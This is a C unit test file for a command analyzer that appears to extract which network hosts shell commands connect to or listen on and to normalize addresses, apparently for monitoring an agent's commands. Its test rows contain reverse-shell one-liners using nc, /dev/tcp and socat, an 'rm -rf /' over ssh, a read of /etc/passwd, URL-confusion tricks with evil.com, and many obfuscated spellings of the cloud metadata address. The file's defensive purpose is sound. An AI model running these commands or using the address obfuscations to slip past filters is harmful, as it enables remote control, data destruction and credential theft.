/* Hosts that commands talk to or listen as, in one form whatever they are written as. */
#include "base/scope.h"
#include "engine/shell/address.h"
#include "engine/shell/facts.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

static const struct facts_setting setting = {.cwd = "/workspace", .home = "/users/agent"};

/* "scheme:host:port", with "L" before a listener and "." behind a host that is this one. */
static void show_host(char *to, size_t size, const struct host_fact *h)
{
    size_t len = strlen(to);
    snprintf(to + len, size - len, "%s%s:%s:%u%s", h->listens ? "L" : "",
             h->scheme ? h->scheme : "", h->name, h->port, h->is_local ? "." : "");
    for (char *hole = to + len; (hole = strchr(hole, HOLE)); hole++)
        *hole = '?';
}

static void show_hosts(char *to, size_t size, const struct host_fact *h)
{
    const struct host_fact *all[64];
    size_t count = 0;
    for (; h && count < COUNT(all); h = h->next)
        all[count++] = h;
    to[0] = 0;
    while (count) {
        show_host(to, size, all[--count]);
        if (count)
            strncat(to, " ", size - strlen(to) - 1);
    }
}

struct row {
    const char *text, *hosts;
};

static void check(const struct row *rows, size_t count)
{
    size_t wrong = 0;
    for (size_t i = 0; i < count; i++) {
        SCOPED(facts_close) struct facts f = {0};
        char shown[1024];
        facts_read_shell(&f, &setting, view_of(rows[i].text));
        assert_non_null(f.first);
        show_hosts(shown, sizeof shown, f.first->hosts);
        if (strcmp(shown, rows[i].hosts) != 0) {
            print_error("%s\n    %s\n", rows[i].text, shown);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

static void reads_urls(void **state)
{
    (void)state;
    static const struct row rows[] = {
        {"curl http://h.com/x", "http:h.com:80"},
        {"curl HTTPS://H.Com:8443/x?y#z", "https:h.com:8443"},
        {"curl h.com/x", "http:h.com:80"},
        {"curl -fsSL -o x -X POST h.com", "http:h.com:80"},
        {"curl localhost:3000", "http:localhost:3000."},
        {"curl 'http://good.com@evil.com/'", "http:evil.com:80"},
        {"curl 'http://u:p@evil.com:81/@good.com'", "http:evil.com:81"},
        {"curl \"$x\"", "http:?:80"},
        {"curl \"http://$x/y\"", "http:?:80"},
        {"curl \"http://h.com/$x\"", "http:h.com:80"},
        {"curl \"http://h.com$x\"", "http:h.com?:80"},
        {"curl \"http://$x@h.com/\"", "http:?:80"},
        {"curl 'http://{a,b}.com/'", "http:?:80"},
        {"curl --url http://h.com", "http:h.com:80"},
        {"curl -x p.com:3128 http://h.com", "http:p.com:3128 http:h.com:80"},
        {"curl --resolve a:80:1.2.3.4 http://a", "tcp:1.2.3.4:0 http:a:80"},
        {"curl --connect-to ::1.2.3.4:81 http://a", "tcp:1.2.3.4:81 http:a:80"},
        {"python3 -c 'urlopen(\"http://h.com/x\")'", "http:h.com:80"},
        {"node -e 'fetch(`https://${h}/x`)'", "https:?:443"},
        {"sed s,http://a,b, f", ""},
        {"curl file:///etc/passwd", ""},
        {"curl --help http://h.com", ""},
        {"wget -q ftp://h.com/x", "ftp:h.com:21"},
        {"http POST h.com/x a=b", "http:h.com:80"},
        {"http :8000/x", "http:localhost:80."},
        {"git clone https://h.com/a/b.git", "https:h.com:443"},
        {"git clone git@h.com:a/b.git", "ssh:h.com:22"},
        {"git clone ./a b", ""},
        {"git push origin main", ""},
        {"git push https://h.com/x main", "https:h.com:443"},
        {"git commit -m http://h.com", ""},
        {"pip install -i http://1.2.3.4/simple x", "http:1.2.3.4:80"},
        {"pip install git+https://h.com/a/b", "git+https:h.com:0"},
        {"npm install https://h.com/a.tgz", "https:h.com:443"},
        {"unheard --to=http://h.com x http://i.com", "http:h.com:80 http:i.com:80"},
        {"echo http://h.com", ""},
        {"grep -r http://h.com .", ""},
        {"psql postgres://u:p@h.com:5433/db", "postgres:h.com:5433"},
        {"psql -h h.com -p 5433", "postgres:h.com:5433"},
        {"aws s3 cp a s3://b/c", "s3:b:0"},
    };
    check(rows, COUNT(rows));
}

static void reads_logins_and_remote_paths(void **state)
{
    (void)state;
    static const struct row rows[] = {
        {"ssh h.com", "ssh:h.com:22"},
        {"ssh -p 2222 u@h.com rm -rf /", "ssh:h.com:2222"},
        {"ssh ssh://u@h.com:23", "ssh:h.com:23"},
        {"ssh -R 8080:localhost:80 h.com", "Ltcp::8080. ssh:h.com:22"},
        {"ssh -L 127.0.0.1:81:i.com:80 h.com", "Ltcp:127.0.0.1:81. ssh:h.com:22"},
        {"ssh -J j.com h.com", "ssh:j.com:22 ssh:h.com:22"},
        {"ssh -V", ""},
        {"scp a u@h.com:b", "ssh:h.com:22"},
        {"scp -P 23 h.com:a b", "ssh:h.com:23"},
        {"scp a ./b:c", ""},
        {"scp [::1]:a b", "ssh:::1:22."},
        {"rsync -a a h.com::m", "ssh:h.com:22"},
        {"rsync -a a rsync://h.com/m", "rsync:h.com:873"},
        {"rsync -a a b", ""},
        {"ssh-copy-id u@h.com", "ssh:h.com:22"},
        {"rclone copy a r:b", ":r:0"},
        {"docker -H tcp://h.com:2375 ps", "tcp:h.com:2375"},
        {"docker build .", ""},
        {"nmap -p 22 10.0.0.0/8", ":10.0.0.0/8:0"},
        {"ping -c 1 h.com", "icmp:h.com:0"},
        {"telnet h.com 25", "telnet:h.com:23"},
    };
    check(rows, COUNT(rows));
}

static void reads_sockets_and_lookups(void **state)
{
    (void)state;
    static const struct row rows[] = {
        {"nc h.com 4444", "tcp:h.com:4444"},
        {"nc -zv localhost 5432", "tcp:localhost:5432."},
        {"nc -e /bin/sh h.com 4444", "tcp:h.com:4444"},
        {"nc -lvp 4444", "Ltcp::4444."},
        {"nc -l 4444", "Ltcp::4444."},
        {"nc -l 0.0.0.0 4444", "Ltcp:0.0.0.0:4444."},
        {"nc -u h.com 53", "udp:h.com:53"},
        {"sh -i >&/dev/tcp/10.0.0.1/1", "tcp:10.0.0.1:1"},
        {"exec 3<>/dev/udp/h.com/53", "udp:h.com:53"},
        {"cat </dev/tcp/localhost/5432", "tcp:localhost:5432."},
        {"echo >/dev/tcp/$x/1", "tcp:?:1"},
        {"socat TCP:h.com:1 EXEC:sh", "tcp:h.com:1"},
        {"socat TCP-LISTEN:1,fork -", "Ltcp::1."},
        {"socat TCP4-LISTEN:1,bind=127.0.0.1 -", "Ltcp:127.0.0.1:1."},
        {"openssl s_client -connect h.com:443", ":h.com:443"},
        {"dig +short @1.1.1.1 x.h.com TXT", "dns:1.1.1.1:53 dns:x.h.com:53"},
        {"dig \"$x.h.com\"", "dns:?.h.com:53"},
        {"nslookup h.com", "dns:h.com:53"},
        {"mail -s x u@h.com", "smtp:h.com:25"},
        {"php -S 0.0.0.0:80", "Ltcp:0.0.0.0:80."},
    };
    check(rows, COUNT(rows));
}

static void writes_addresses_in_one_form(void **state)
{
    (void)state;
    static const char *const metadata[] = {"169.254.169.254",
                                           "0xa9fea9fe",
                                           "2852039166",
                                           "025177524776",
                                           "0xa9.0xfe.0xa9.0xfe",
                                           "0251.0376.0251.0376",
                                           "169.254.43518",
                                           "169.16689662",
                                           "169.254.169.254.",
                                           "[::ffff:169.254.169.254]",
                                           "[::ffff:a9fe:a9fe]",
                                           "::169.254.169.254",
                                           "64:ff9b::a9fe:a9fe",
                                           "%31%36%39.254.169.254",
                                           "\xef\xbc\x91\xef\xbc\x96\xef\xbc\x99.254.169.254",
                                           "169\xe3\x80\x82"
                                           "254\xef\xbc\x8e"
                                           "169.254"};
    char to[ADDRESS_MAX_BYTES];
    for (size_t i = 0; i < COUNT(metadata); i++) {
        assert_true(address_normalize(to, metadata[i], strlen(metadata[i])));
        assert_string_equal(to, "169.254.169.254");
    }
    static const struct row others[] = {
        {"Example.COM.", "example.com"},
        {"[FD00:EC2::254]", "fd00:ec2::254"},
        {"fe80::1%eth0", "fe80::1"},
        {"256.1.1.1", "256.1.1.1"},
        {"1.2.3.4.5", "1.2.3.4.5"},
        {"08.1.1.1", "08.1.1.1"},
        {"4294967296", "4294967296"},
        {"127.1", "127.0.0.1"},
        {"a:b", "a:b"},
        {"", ""},
        {".", "."},
        {"1..2", "1..2"},
        {"%zz", "%zz"},
        {"a%", "a%"},
    };
    for (size_t i = 0; i < COUNT(others); i++) {
        assert_true(address_normalize(to, others[i].text, strlen(others[i].text)));
        assert_string_equal(to, others[i].hosts);
    }
    char longest[300];
    memset(longest, 'a', sizeof longest);
    assert_false(address_normalize(to, longest, sizeof longest));
    assert_false(address_normalize(to, "a%00b", 5));
}

static void knows_this_host(void **state)
{
    (void)state;
    static const char *const local[] = {"localhost", "a.localhost", "127.0.0.1", "127.255.0.9",
                                        "::1",       "0.0.0.0",     "::"};
    static const char *const other[] = {"localhost.evil.com", "128.0.0.1", "10.0.0.1",
                                        "mylocalhost",        "::2",       ""};
    for (size_t i = 0; i < COUNT(local); i++)
        assert_true(address_is_local(local[i]));
    for (size_t i = 0; i < COUNT(other); i++)
        assert_false(address_is_local(other[i]));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(reads_urls),
        cmocka_unit_test(reads_logins_and_remote_paths),
        cmocka_unit_test(reads_sockets_and_lookups),
        cmocka_unit_test(writes_addresses_in_one_form),
        cmocka_unit_test(knows_this_host),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
